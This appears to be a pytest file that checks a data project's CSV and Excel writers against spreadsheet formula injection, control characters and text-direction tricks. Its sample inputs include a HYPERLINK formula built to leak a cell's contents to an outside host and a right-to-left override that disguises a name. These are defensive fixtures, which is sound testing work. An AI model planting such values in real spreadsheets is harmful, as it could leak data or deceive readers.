"""Every spreadsheet the project writes is inert: no live formula, no character that breaks or disguises a cell."""

from __future__ import annotations

import csv
import io
import warnings

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from qio_analysis.io import writers as w

HOSTILE = [
    '=HYPERLINK("http://x?leak="&A1,"x")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\tcmd",
    "\r=1",
    "Bell\x07 Trust",
    "Trust \u202eLTD evil",
    "\uff1d1+1",  # full-width equals sign
    "  =1+1",
]
#: What each hostile name becomes (hand-worked from the rules in the module docstring).
CLEANED = [
    '=HYPERLINK("http://x?leak="&A1,"x")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\tcmd",
    "\r=1",
    "Bell\ufffd Trust",
    "Trust \ufffdLTD evil",
    "\uff1d1+1",
    "  =1+1",
]
FORMULA_LIKE = [True, True, True, True, True, True, False, False, True, True]
STARTS = ("=", "+", "-", "@", "\t", "\r")


def hostile_frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "org_name": HOSTILE,
            "change": [-2.5, -1.0, 0.0, 1.0, 2.0, -3.0, -4.0, 5.0, -6.0, 7.0],
            "count": list(range(-5, 5)),
        }
    )


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def quiet(fn, *args, **kw):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", w.SpreadsheetTextWarning)
        return fn(*args, **kw)


# ------------------------------------------------------------------ the rule


@pytest.mark.parametrize(("text", "expected"), list(zip(CLEANED, FORMULA_LIKE, strict=True)))
def test_formula_like_text_is_recognised(text, expected):
    assert w.is_formula_like(text) is expected


@pytest.mark.parametrize("text", ["Leeds", "A-1", "O'Neil", "", "1:2", "Trust (=)", "\u2013"])
def test_ordinary_text_is_not_formula_like(text):
    assert not w.is_formula_like(text)


def test_neutralised_text_for_csv():
    assert w.neutralise_text("=1+1") == "'=1+1"
    assert w.neutralise_text("-2+3") == "'-2+3"
    assert w.neutralise_text("Bell\x07") == "Bell\ufffd"
    assert w.neutralise_text("\x00=1") == "\ufffd=1"  # the replacement is visible and inert


# ------------------------------------------------------------------ CSV


def test_csv_text_cells_cannot_start_a_formula_and_numbers_stay_numbers():
    rows = csv_rows(quiet(w.csv_bytes, hostile_frame()))
    assert rows[0] == ["org_name", "change", "count"]
    names = [r[0] for r in rows[1:]]
    expected = [("'" if f else "") + c for c, f in zip(CLEANED, FORMULA_LIKE, strict=True)]
    expected[5] = "'\n=1"  # a bare CR would split the row in Excel: it is written as LF
    assert names == expected
    assert len(rows) == 11
    assert not any(n.startswith(STARTS) for n in names)
    assert [r[1] for r in rows[1:3]] == ["-2.5", "-1.0"]  # numeric cells untouched
    assert [r[2] for r in rows[1:3]] == ["-5", "-4"]


def test_csv_does_not_change_the_callers_frame():
    frame = hostile_frame()
    before = frame.copy()
    quiet(w.csv_bytes, frame)
    pd.testing.assert_frame_equal(frame, before)


def test_csv_notes_name_each_changed_cell_or_warn():
    notes: list[str] = []
    w.csv_bytes(pd.DataFrame({"org_name": ["ok", "=1", "a\x07"]}), notes=notes)
    assert notes == [
        "line 3, column 'org_name': text '=1' starts like a formula; written as text, never run",
        "line 4, column 'org_name': 1 control or text-direction character(s) replaced with \ufffd "
        "(a spreadsheet cannot hold them, or they could disguise the text)",
    ]
    with pytest.warns(w.SpreadsheetTextWarning, match="line 3"):
        w.csv_bytes(pd.DataFrame({"org_name": ["ok", "=1"]}))
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        w.csv_bytes(pd.DataFrame({"org_name": ["Leeds"], "n": [-1]}))  # nothing to say


def test_csv_header_cells_are_neutralised_too():
    rows = csv_rows(quiet(w.csv_bytes, pd.DataFrame({"=cmd": [1]})))
    assert rows[0] == ["'=cmd"]


def test_write_csv_atomic_names_the_file_in_its_notes(tmp_path):
    notes: list[str] = []
    path = w.write_csv_atomic(tmp_path / "manifest.csv", hostile_frame(), notes=notes)
    assert not any(c[0].startswith(STARTS) for c in csv_rows(path.read_bytes())[1:])
    assert notes and all(n.startswith("manifest.csv, line ") for n in notes)


# ------------------------------------------------------------------ Excel


def assert_no_formula(data: bytes, allowed: set[str] = frozenset()) -> list:
    book = load_workbook(io.BytesIO(data))
    cells = [c for s in book.worksheets for row in s.iter_rows() for c in row]
    formulas = {f"{c.parent.title}!{c.coordinate}" for c in cells if c.data_type == "f"}
    assert formulas == set(allowed)
    return cells


def test_xlsx_cells_are_typed_strings_showing_the_text_exactly():
    data = quiet(w.xlsx_bytes, {"data": hostile_frame()})
    assert_no_formula(data)
    sheet = load_workbook(io.BytesIO(data))["data"]
    assert [sheet.cell(r, 1).value for r in range(2, 12)] == [
        c.replace("\r", "\n") for c in CLEANED
    ]  # XML turns a bare CR into LF
    assert [sheet.cell(r, 1).quotePrefix for r in range(2, 12)] == FORMULA_LIKE
    assert [sheet.cell(r, 2).value for r in (2, 3)] == [-2.5, -1.0]
    assert sheet.cell(2, 3).value == -5 and sheet.cell(2, 3).data_type == "n"


def test_xlsx_raw_rows_are_neutralised_and_notes_name_the_cell():
    notes: list[str] = []
    data = w.xlsx_bytes({"Notes": [["Title"], [], ["=1+1", -2, "a\x1fb"]]}, notes=notes)
    assert_no_formula(data)
    assert notes == [
        "sheet 'Notes', cell C3: 1 control or text-direction character(s) replaced with \ufffd "
        "(a spreadsheet cannot hold them, or they could disguise the text)",
        "sheet 'Notes', cell A3: text '=1+1' starts like a formula; written as text, never run",
    ]


def test_xlsx_text_longer_than_an_excel_cell_is_cut_with_a_note():
    # Excel holds 32,767 UTF-16 units per cell and calls a longer cell a damaged workbook.
    # 40,000 "a": 32,766 kept, then one ellipsis. An emoji is two UTF-16 units, so
    # 20,000 of them keep 16,383 (32,766 units), then the ellipsis: 32,767 units.
    long_name, emoji = "=" + "a" * 39_999, "\U0001f600" * 20_000
    notes: list[str] = []
    data = w.xlsx_bytes({"s": [[long_name, emoji, "a" * 32_767]]}, notes=notes)
    assert_no_formula(data)
    row = [c.value for c in load_workbook(io.BytesIO(data))["s"][1]]
    assert row[0] == "=" + "a" * 32_765 + "\u2026"
    assert row[1] == "\U0001f600" * 16_383 + "\u2026"
    assert row[2] == "a" * 32_767  # exactly at the limit: untouched
    assert notes == [
        "sheet 's', cell A1: text longer than an Excel cell holds (32,767 characters); cut, ending with \u2026",
        "sheet 's', cell B1: text longer than an Excel cell holds (32,767 characters); cut, ending with \u2026",
        "sheet 's', cell A1: text '="
        + "a" * 36
        + "...' starts like a formula; written as text, never run",
    ]


def test_a_workbook_built_elsewhere_never_holds_more_than_an_excel_cell():
    # openpyxl cuts a cell at 32,767 code points when it is set; 32,767 emoji are 65,534
    # UTF-16 units, so the writer cuts again: 16,383 emoji and an ellipsis.
    book = Workbook()
    book.active["A1"] = "\U0001f600" * 40_000
    notes: list[str] = []
    data = w.workbook_bytes(book, notes=notes)
    assert load_workbook(io.BytesIO(data)).active["A1"].value == "\U0001f600" * 16_383 + "\u2026"
    assert notes == [
        "sheet 'Sheet', cell A1: text longer than an Excel cell holds (32,767 characters); cut, ending with \u2026"
    ]


def test_document_properties_are_cleaned_too():
    # A name in the title property with U+FFFE made docProps/core.xml malformed.
    book = Workbook()
    book.properties.title = "Levels: Quay\ufffeside\x07 NHS Trust"
    book.properties.keywords = "QIOF, ZQ1"
    notes: list[str] = []
    data = w.workbook_bytes(book, notes=notes)
    assert (
        load_workbook(io.BytesIO(data)).properties.title == "Levels: Quay\ufffdside\ufffd NHS Trust"
    )
    assert notes == [
        "document property 'title': 2 control or text-direction character(s) replaced with "
        "\ufffd (a spreadsheet cannot hold them, or they could disguise the text)"
    ]


def other_workbook() -> Workbook:
    """A workbook built elsewhere (as the export package does), formulas and all."""
    book = Workbook()
    sheet = book.active
    sheet.title = "Level counts"
    sheet.append(["Organisation", "Level", "Total"])
    for name in HOSTILE[:4]:
        sheet.append([name, 3, None])
    sheet["C2"] = "=SUM(B2:B5)"
    sheet["C3"] = '=HYPERLINK("http://x","y")'
    sheet["D1"] = "\u202eevil"
    return book


def test_workbook_keeps_only_the_formulas_it_is_told_about():
    data = quiet(w.workbook_bytes, other_workbook(), formulas=["'Level counts'!C2"])
    cells = {c.coordinate: c for c in assert_no_formula(data, {"Level counts!C2"})}
    assert cells["C2"].value == "=SUM(B2:B5)"
    assert cells["C3"].value == '=HYPERLINK("http://x","y")' and cells["C3"].data_type == "s"
    assert cells["A2"].value == HOSTILE[0] and cells["A2"].data_type == "s"
    assert cells["D1"].value == "\ufffdevil"


def test_workbook_with_no_formulas_allowed_has_none(tmp_path):
    notes: list[str] = []
    path = w.write_workbook_atomic(tmp_path / "org.xlsx", other_workbook(), notes=notes)
    assert_no_formula(path.read_bytes())
    assert any("cell C2" in n for n in notes) and notes[0].startswith("org.xlsx, sheet ")


def test_formula_cells_must_name_their_sheet():
    with pytest.raises(ValueError, match="must name their sheet"):
        w.workbook_bytes(Workbook(), formulas=["C2"])


def test_workbook_bytes_are_deterministic():
    """The same content and created time give the same bytes, whenever each was built."""
    first, second = other_workbook(), other_workbook()
    second.properties.created = first.properties.created  # built a second apart, say
    assert quiet(w.workbook_bytes, first) == quiet(w.workbook_bytes, second)


# ------------------------------------------------------------------ invariants

TEXT = st.text(st.characters(codec="utf-8"), max_size=12) | st.sampled_from(HOSTILE)


@pytest.mark.slow  # seconds of examples or files: not the fast layer
@settings(max_examples=150, deadline=None)
@given(st.lists(TEXT, min_size=1, max_size=6))
def test_no_text_from_data_ever_becomes_a_formula(names):
    frame = pd.DataFrame({"name": names, "value": range(-len(names), 0)})
    rows = csv_rows(quiet(w.csv_bytes, frame))
    assert len(rows) == len(names) + 1  # no text can split a row
    for row in rows[1:]:
        assert not w.is_formula_like(row[0]) and not w.UNSAFE_CHARACTERS_RE.search(row[0])
        assert row[1].startswith("-")  # negative numbers are still numbers
    cells = assert_no_formula(quiet(w.xlsx_bytes, {"s": frame}))
    texts = [c.value for c in cells if c.column == 1 and c.row > 1]
    expected = [w.clean_text(n)[0] or None for n in names]
    normalise = lambda t: t if t is None else t.replace("\r\n", "\n").replace("\r", "\n")  # noqa: E731
    assert [normalise(t) for t in texts] == [normalise(e) for e in expected]
